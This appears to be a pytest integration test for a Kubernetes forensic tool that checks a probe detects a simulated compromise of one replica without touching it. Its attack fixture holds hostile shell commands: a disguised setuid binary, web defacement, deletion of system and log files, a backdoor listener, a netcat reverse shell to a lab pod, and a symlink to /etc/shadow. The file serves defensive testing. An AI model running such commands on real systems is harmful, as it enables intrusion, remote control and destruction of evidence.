"""A replica is attacked for real; one probe sees all of it, the other replica shows nothing.

And looking leaves no trace in the suspect: no exec, no attach, no process, file or mount more.
"""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from contextlib import ExitStack
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from console.case.folder import Case
from console.case.workspace import Workspace
from console.live.api import connect
from console.visibility.collect import Options, take
from console.visibility.deltas import captured_deltas
from console.visibility.fetch import fetch
from console.visibility.machine import Machine
from console.visibility.probe import LABEL, ProbeSpec, probing, sweep
from console.visibility.target import Target
from tests.real.lab import Lab
from tests.visibility.differing import rows_of

NAMES = ("a\nb", "\x1b[2Jx", " blank")
ATTACK = r"""
cp /bin/busybox /usr/bin/.ssh-agent; chmod 4755 /usr/bin/.ssh-agent
echo owned >/var/www/index.html
rm -f /etc/group; rm -f /var/log/shop.log
cp /bin/busybox /tmp/sleep; /tmp/sleep 100000 >/dev/null 2>&1 </dev/null &
sleep 0.5; rm -f /tmp/sleep
(httpd -f -p 31337 >/dev/null 2>&1 &)
(nc LISTENER 4444 -e /bin/sh >/dev/null 2>&1 &)
touch "/tmp/a
b" "/tmp/$(printf '\033[2Jx')" "/tmp/ blank"
mkfifo /tmp/trap; ln -s /etc/shadow /tmp/link
truncate -s 100G /tmp/big
"""
PODS = """
apiVersion: apps/v1
kind: Deployment
metadata: {name: web, namespace: NS}
spec:
  replicas: 2
  selector: {matchLabels: {app: web}}
  template:
    metadata: {labels: {app: web}}
    spec:
      terminationGracePeriodSeconds: 0
      containers:
      - {name: web, image: "lab/shop:1", imagePullPolicy: Never, ports: [{containerPort: 8080}],
         env: [{name: API_TOKEN, value: hunter2-hunter2}]}
---
apiVersion: v1
kind: Pod
metadata: {name: listener, namespace: NS}
spec:
  terminationGracePeriodSeconds: 0
  containers:
  - {name: l, image: "lab/busybox:1", imagePullPolicy: Never, command: [sh, -c, "while true; do nc -l -p 4444 -e sleep 100000; done"]}
"""


@dataclass
class Scene:
    lab: Lab
    namespace: str
    suspect: str
    sibling: str
    case: Case
    captures: dict[str, Any]
    began: str
    before: str
    after: str
    decoy: str

    def rows(self, what: str, against: str, pod: str | None = None) -> list[dict[str, Any]]:
        return rows_of(self.case, what, Target("pod", self.namespace, pod or self.suspect), against)


def options(**more: Any) -> Options:
    return Options("probe", image="lab/probe:1", pull="Never", deadline_s=120, **more)


@pytest.fixture(scope="module")
def scene(lab: Lab, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Scene]:
    lab.only_own()
    with lab.namespace() as name, ExitStack() as after:
        lab.kubectl("apply", "-f", "-", stdin=PODS.replace("NS", name))
        lab.kubectl("-n", name, "rollout", "status", "deployment/web", timeout_s=120)
        lab.wait_ready(name, "pod/listener")
        pods = json.loads(lab.kubectl("-n", name, "get", "pods", "-l", "app=web", "-o", "json"))
        suspect, sibling = (item["metadata"]["name"] for item in pods["items"])
        address = lab.kubectl(
            "-n", name, "get", "pod", "listener", "-o", "jsonpath={.status.podIP}"
        )
        lab.kubectl(
            "-n", name, "exec", suspect, "--", "sh", "-c", ATTACK.replace("LISTENER", address)
        )
        container = pods["items"][0]["status"]["containerStatuses"][0]["containerID"][9:]
        until(lambda: "/bin/sh" in lab.docker("top", container, "-eo", "pid,args"))
        decoy = f"k8s_probe_probe_kubecase-probe-{name}"  # all that can be copied of a probe
        after.callback(lab.docker, "rm", "-f", decoy)
        lab.docker("run", "-d", "--name", decoy, "--label", f"{LABEL}=kubecase", "--label",
                   f"io.kubernetes.pod.namespace=kubecase-probe-{name}", "lab/probe:1")  # fmt: skip
        case = Case.create(tmp_path_factory.mktemp("visibility") / "case", title="a suspect")
        before, began = looked(lab, container), time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime())
        target = Target("deployment", name, "web")
        api = connect(lab.context, kubeconfig=str(lab.kubeconfig))
        taken = list(take(case, target, options(has_node=True), lambda: api))
        yield Scene(
            lab, name, suspect, sibling, case, {t.subject.pod: t for t in taken}, began, before,
            looked(lab, container), lab.docker("ps", "-q", "--filter", f"name={decoy}").strip(),
        )  # fmt: skip


def until(condition: Callable[[], object], timeout_s: float = 60) -> None:
    deadline = time.monotonic() + timeout_s
    while not condition():
        assert time.monotonic() < deadline
        time.sleep(0.1)


def looked(lab: Lab, container: str) -> str:
    """Processes, mounts and changed files of a container, seen from the node."""
    pid = lab.docker("inspect", "-f", "{{.State.Pid}}", container).strip()
    upper = lab.docker("inspect", "-f", "{{.GraphDriver.Data.UpperDir}}", container).strip()
    files = subprocess.run(
        ["find", upper, "-printf", "%P %m %s %T@ %C@\\n"],
        capture_output=True,
        text=True,
        check=True,
    )
    processes = lab.docker("top", container, "-eo", "pid,ppid,lstart,args")
    mounts = Path(f"/proc/{pid}/mountinfo").read_text()
    return processes + mounts + "\n".join(sorted(files.stdout.split("\n")))


def test_a_table_of_pods_has_how_much_differs(scene: Scene) -> None:
    workspace = Workspace(scene.case)
    try:
        found = captured_deltas(workspace)
    finally:
        workspace.close()
    odd = [row for row in scene.rows("files", "siblings") if row["severity"] > 1]
    assert found[scene.namespace, scene.suspect]["files"] == len(odd) > 0
    assert found[scene.namespace, scene.suspect]["net"] > 0


def test_every_file_of_the_attack_is_found(scene: Scene) -> None:
    found = {row["path"]: row for row in scene.rows("files", "image")}
    assert found["/usr/bin/.ssh-agent"]["why"].startswith("setuid · executable not in the image")
    assert found["/usr/bin/.ssh-agent"]["severity"] == 5
    assert (found["/var/www/index.html"]["delta"], found["/etc/group"]["delta"]) == (
        "changed",
        "deleted",
    )
    assert "web root" in found["/var/www/index.html"]["why"]
    for name in ("/tmp/a\\x0ab", "/tmp/\\x1b[2Jx", "/tmp/ blank"):
        shown = name.encode().decode("unicode_escape") if "\\x" in name else name
        assert "control characters" in (found.get(name) or found[shown])["why"]
    assert found["/tmp/trap"]["why"] == "fifo"
    assert found["/tmp/big"]["size_bytes"] == 100 << 30
    assert all("sha256" in row and row["citation"].count(":") == 1 for row in found.values())


def test_the_untouched_replica_shows_only_what_the_runtime_made(scene: Scene) -> None:
    assert {row["why"] for row in scene.rows("files", "image", scene.sibling)} == {
        "made by the runtime"
    }
    assert scene.rows("processes", "image", scene.sibling) == []
    assert scene.rows("network", "spec", scene.sibling) == []


def test_against_its_sibling_only_the_attack_differs(scene: Scene) -> None:
    paths = {row["path"] for row in scene.rows("files", "siblings")}
    assert {"/usr/bin/.ssh-agent", "/var/www/index.html", "/etc/group", "/tmp/big"} <= paths
    assert not [
        path for path in paths if path.startswith(("/dev/", "/var/run/secrets", "/etc/hos"))
    ]
    commands = {row["cmdline"] for row in scene.rows("processes", "siblings")}
    assert commands == {"/bin/sh", "/tmp/sleep 100000", "httpd -f -p 31337"}
    ports = {
        row["local_port"]
        for row in scene.rows("network", "siblings")
        if row["direction"] == "listens"
    }
    assert ports == {31337}


def test_the_reverse_shell_and_the_deleted_program(scene: Scene) -> None:
    why = {row["cmdline"]: row["why"] for row in scene.rows("processes", "image")}
    assert f"(pod {scene.namespace}/listener)" in why["/bin/sh"]
    assert why["/bin/sh"].startswith("input or output is a socket")
    assert why["/tmp/sleep 100000"] == "its file was deleted"
    network = {(row["local_port"], row["peer_port"]): row for row in scene.rows("network", "spec")}
    assert network[(31337, None)]["why"].startswith("listens on an undeclared port")
    [shell] = [row for key, row in network.items() if key[1] == 4444]
    assert shell["peer"] == f"pod {scene.namespace}/listener"


def test_the_deleted_program_is_fetched_with_one_hash_at_both_ends(scene: Scene) -> None:
    [row] = [r for r in scene.rows("processes", "image") if r["cmdline"].startswith("/tmp/sleep")]
    api = connect(scene.lab.context, kubeconfig=str(scene.lab.kubeconfig))
    target = Target("pod", scene.namespace, scene.suspect)
    got = fetch(
        scene.case, target, options(), lambda: api, path="", pid=row["pid"], limit_bytes=1 << 26
    )
    assert got.sha256 == row["sha256"] == scene.case.store.get(got.sha256).sha256
    data = scene.case.store.get(got.sha256).data_path.read_bytes()
    assert data.startswith(b"\x7fELF")


def of_node(scene: Scene, what: str, against: str) -> list[dict[str, Any]]:
    return rows_of(scene.case, what, Target("node", "", "lab-node"), against)


def test_did_anyone_break_out_is_answered(scene: Scene) -> None:
    answers = {row["check_id"]: row for row in of_node(scene, "checks", "node")}
    assert len(answers) == 15
    assert answers["host-namespace"]["answer"] == "no"
    assert answers["core-pattern"]["answer"] == "no"
    assert all(row["evidence_seen"] for row in answers.values() if row["answer"] == "yes")


def test_our_own_probe_is_named_and_a_copy_of_it_is_not_believed(scene: Scene) -> None:
    running, *_ = [e for e in scene.case.entries() if e.kind == "probe.running"]
    own, namespace = running.data["container_id"], running.data["namespace"]
    [check] = [r for r in of_node(scene, "checks", "node") if r["check_id"] == "unknown-container"]
    assert f"the investigator's own, not counted: probe {namespace}" in check["evidence_seen"]
    assert f"container {own[:12]}" not in check["evidence_seen"]
    assert (check["answer"], f"container {scene.decoy}" in check["evidence_seen"]) == ("yes", True)
    why = [row["why"] or "" for row in of_node(scene, "processes", "all")]
    assert f"the investigator's own: probe {namespace}" in why
    assert "of a container that the API does not know" in why


def test_only_the_node_itself_is_read_locally(
    scene: Scene, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    case = Case.create(tmp_path / "case", title="here, or not")
    target = Target("pod", scene.namespace, scene.suspect)
    api = connect(scene.lab.context, kubeconfig=str(scene.lab.kubeconfig))
    no_probe = Options("auto", may_start=lambda footprint: False)
    [taken] = take(case, target, no_probe, lambda: api)
    assert taken.way == "local"
    # the same processes, another root: as beside a node that has its own on this machine
    (tmp_path / "id").write_text("0" * 32 + "\n")
    command = (
        f"mount --bind {tmp_path}/id /etc/machine-id && exec {sys.executable} -m console capture"
        f" {tmp_path}/case pod/{scene.namespace}/{scene.suspect} --way local"
    )
    done = subprocess.run(
        ["unshare", "--mount", "sh", "-c", command], capture_output=True, text=True, check=False,
        env={**os.environ, **scene.lab.env, "PYTHONPATH": str(Path(__file__).parents[2])},
    )  # fmt: skip
    assert (done.returncode, "is not lab-node: machine-id 0000" in done.stderr) == (2, True)
    # a copy of the machine has its id, and another boot
    copy = Machine(Machine.here(Path("/proc"), Path("/")).machine_id, "another")
    monkeypatch.setattr(Machine, "here", lambda proc, root: copy)
    [taken] = take(case, target, no_probe, lambda: api)
    assert taken.way == "kubelet"
    assert any("is not lab-node: boot id another" in said for said in taken.not_seen)


def test_the_suspect_is_as_it_was(scene: Scene) -> None:
    assert scene.after == scene.before


def test_nothing_was_run_in_the_suspect_and_the_footprint_is_journalled(scene: Scene) -> None:
    journalled = {e.data["namespace"] for e in scene.case.entries() if e.kind == "probe.started"}
    places = {scene.namespace, *journalled}
    with scene.lab.audit_log.open() as lines:  # type: ignore[union-attr]
        seen = [json.loads(line) for line in lines if any(place in line for place in places)]
    ours = [e for e in seen if e["userAgent"].startswith("kubecase/")]
    assert {e.get("objectRef", {}).get("namespace") for e in ours} >= journalled
    forbidden = {"exec", "attach", "portforward", "ephemeralcontainers"}
    assert not {e.get("objectRef", {}).get("subresource") for e in ours} & forbidden
    in_suspect = [e for e in ours if e.get("objectRef", {}).get("namespace") == scene.namespace]
    assert {e["verb"] for e in in_suspect} <= {"get", "list"}
    since = str(int(time.time()) - 600)
    events = scene.lab.docker("events", "--since", since, "--until", str(int(time.time())),
                              "--filter", "event=exec_start", "--filter", "event=attach", "--format", "{{json .}}")  # fmt: skip
    execs = [json.loads(line) for line in events.splitlines() if scene.suspect in line]
    assert len({e["timeNano"] for e in execs}) <= 1  # the attack's own
    kinds = [entry.kind for entry in scene.case.entries()]
    assert kinds.index("probe.started") < kinds.index("capture.taken")
    assert kinds.count("probe.started") == kinds.count("probe.removed")


def test_no_value_of_the_environment_is_in_the_case(scene: Scene) -> None:
    texts = [
        item.data_path.read_bytes()
        for item in scene.case.store.list()
        if item.name.endswith(".ndjson")
    ]
    assert any(b"API_TOKEN" in text for text in texts)
    assert not any(b"hunter2" in text for text in texts)


def probes(lab: Lab) -> list[str]:
    listed = lab.kubectl("get", "namespaces", "-l", f"{LABEL}=kubecase", "-o", "name")
    return [line.partition("/")[2] for line in listed.split()]


def test_why_no_firewall_rule_is_listed_is_said(scene: Scene) -> None:
    [said] = [line for line in scene.captures[scene.suspect].not_seen if "firewall" in line]
    assert "--rules (R on the screen) lets it" in said


def test_the_probe_is_gone(scene: Scene) -> None:
    journalled = [e.data["namespace"] for e in scene.case.entries() if e.kind == "probe.started"]
    until(lambda: not set(journalled) & set(probes(scene.lab)))


def test_after_kill_9_the_node_ends_the_probe_and_the_next_run_removes_it(
    lab: Lab, tmp_path: Path
) -> None:
    code = (
        "import sys, time\nfrom console.live.api import connect\n"
        "from console.visibility.probe import ProbeSpec, probing\n"
        "api = connect(sys.argv[1], kubeconfig=sys.argv[2])\n"
        "spec = ProbeSpec('lab-node', ('sleep', '1000'), image='lab/probe:1', pull='Never', deadline_s=25)\n"
        "with probing(api, spec) as probe:\n    print(probe.namespace, flush=True)\n    time.sleep(1000)\n"
    )
    process = subprocess.Popen(
        [sys.executable, "-c", code, lab.context, str(lab.kubeconfig)], stdout=subprocess.PIPE, text=True,
        env={**os.environ, "PYTHONPATH": str(Path(__file__).parents[2])},
    )  # fmt: skip
    assert process.stdout is not None
    namespace = process.stdout.readline().strip()
    os.kill(process.pid, signal.SIGKILL)
    process.wait()
    assert namespace in probes(lab)
    status = [
        "-n",
        namespace,
        "get",
        "pod",
        "probe",
        "-o",
        "jsonpath={.status.phase} {.status.reason}",
    ]
    until(lambda: lab.kubectl(*status) == "Failed DeadlineExceeded")
    api = connect(lab.context, kubeconfig=str(lab.kubeconfig))
    assert namespace not in sweep(api)  # another kubecase may still read what it said
    until_past = '{"metadata":{"annotations":{"kubecase.io/until":"2020-01-01T00:00:00+00:00"}}}'
    lab.kubectl("patch", "namespace", namespace, "--type=merge", "-p", until_past)
    case = Case.create(tmp_path / "case", title="the next run")
    assert namespace in sweep(api, case)
    assert [e.kind for e in case.entries()][-1] == "probe.swept"
    until(lambda: namespace not in probes(lab))


def test_an_image_that_is_not_there_is_said_and_leaves_nothing(lab: Lab) -> None:
    api = connect(lab.context, kubeconfig=str(lab.kubeconfig))
    spec = ProbeSpec("lab-node", ("sh",), image="lab/none:0", pull="Never", deadline_s=30)
    with pytest.raises(Exception, match="ErrImageNeverPull"), probing(api, spec):
        pass


def test_without_the_right_to_create_pods_the_api_still_tells_what_it_can(
    lab: Lab, scene: Scene, tmp_path: Path
) -> None:
    config = lab.user(tmp_path, scene.namespace, "viewer", "get,list", "pods")
    api = connect(kubeconfig=str(config))
    case = Case.create(tmp_path / "case", title="few rights")
    target = Target("pod", scene.namespace, scene.suspect)
    wanted = Options("auto", image="lab/probe:1", pull="Never", may_start=lambda footprint: True)
    import console.visibility.collect as collect

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(collect.local, "can_look", lambda: False)  # as from a bastion
        [taken] = take(case, target, wanted, lambda: api)
    assert taken.way == "kubelet"
    assert any("no right" in line or "cannot create" in line for line in taken.not_seen)
